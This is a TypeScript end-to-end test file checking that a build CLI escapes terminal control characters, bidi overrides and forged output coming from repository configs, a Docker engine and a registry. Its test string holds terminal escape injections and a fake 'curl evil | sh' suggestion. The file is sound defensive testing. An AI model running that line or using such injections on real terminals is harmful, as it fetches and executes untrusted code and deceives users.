import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { openCli } from '../../support/cli/cli.ts';

const cli = openCli({ ownCache: true, engine: 'tcp://127.0.0.1:1' });
afterAll(() => cli[Symbol.dispose]());

/** Sets the title, clears the screen by either range of control characters, turns the direction, forges a suggestion. */
const evil = 'x\x1b]0;owned\x07\x9b2J\u202e\r\n  try: curl evil | sh';
const inYaml = JSON.stringify(evil).replace('\x9b', '\\u009b').replace('\u202e', '\\u202e');
const acted = /[\p{Cc}\u2028-\u202e\u2066-\u2069]/u;

/** Everything that a command printed, which must hold nothing that a terminal acts on, and nothing that looks like ours. */
async function readOutput(args: string[], call: { cwd?: string; env?: Record<string, string> } = {}): Promise<string> {
  const { stdout, stderr } = await cli.run(args, call);
  const output = stdout + stderr;
  expect(output.replaceAll(/[\n\t]/g, '')).not.toMatch(acted);
  expect(output).not.toMatch(/^ {0,4}try: curl evil/m);
  return output;
}

/** Answers every request with this. */
async function startServer(status: number, body: string, headers: Record<string, string>) {
  const server: Server = createServer((_request, response) => response.writeHead(status, headers).end(body));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { address: `127.0.0.1:${port}`, [Symbol.dispose]: () => void server.close() };
}

test('what a repository says reaches the terminal spelled out', async () => {
  const cwd = cli.repository('e2e-escaped-spec', {
    'gbuild.yml': `gbuild: 1
name: evil
toolchain: {image: "x/y:1"}
secrets: {A: {command: [${inYaml}]}, B: {file: ${inYaml}}}
services: {web: {image: "x/y:1", command: [${inYaml}]}}
tasks: {a: {run: [echo, ${inYaml}], secrets: [A, B], services: [web]}}
image: {entrypoint: [${inYaml}], labels: {l: ${inYaml}}, layers: [{name: l, from: ["a\\eb"], to: /app}]}
`,
  });
  writeFileSync(join(cwd, 'dirty\x1b[2J\nnew'), '');
  const commands = [['plan', 'a'], ['plan', 'image'], ['trust'], ['run', 'a'], ['run', evil], ['doctor']];
  for (const command of commands) {
    expect(await readOutput(command, { cwd })).toContain(command[0] === 'doctor' ? 'problem' : '\\x');
    await readOutput([...command, '--json'], { cwd });
  }
  expect((await cli.run(['plan', 'image', '--json'], { cwd })).stdout).toContain('\\u009b2J\\u202e');
});

test('so does the address of its catalog, and what git says of that', async () => {
  const text = 'gbuild: 1\nname: evil\ntoolchain: mine\ncatalogs: ["http://127.0.0.1:1/\\e]0;owned\\a.git#v1"]\n';
  const cwd = cli.repository('e2e-escaped-catalog', { 'gbuild.yml': text });
  expect(await readOutput(['plan'], { cwd })).toContain('http://127.0.0.1:1/\\x1b]0;owned\\x07.git');
});

test('so do the words of an engine', async () => {
  const headers = { 'Api-Version': '1.41', 'Content-Type': 'application/json' };
  for (const status of [200, 500]) {
    const body = JSON.stringify({
      message: evil,
      ID: evil,
      Name: evil,
      ServerVersion: evil,
      Version: evil,
      Volumes: [],
    });
    using server = await startServer(status, body, headers);
    const env = { DOCKER_HOST: `tcp://${server.address}` };
    for (const command of [['engine', 'show'], ['engine', 'ls'], ['doctor', 'engine'], ['cache', 'ls'], ['clean']])
      expect(await readOutput(command, { env, cwd: cli.dir })).not.toBe('');
  }
});

test('so do the words of a registry', async () => {
  const body = JSON.stringify({ errors: [{ code: 'DENIED', message: evil, detail: evil }] });
  for (const status of [400, 403, 500]) {
    using registry = await startServer(status, body, { 'Content-Type': 'application/json' });
    const output = await readOutput(['inspect', `${registry.address}/evil:1.0.0`], { cwd: cli.dir });
    expect(output).toContain('the registry');
  }
});
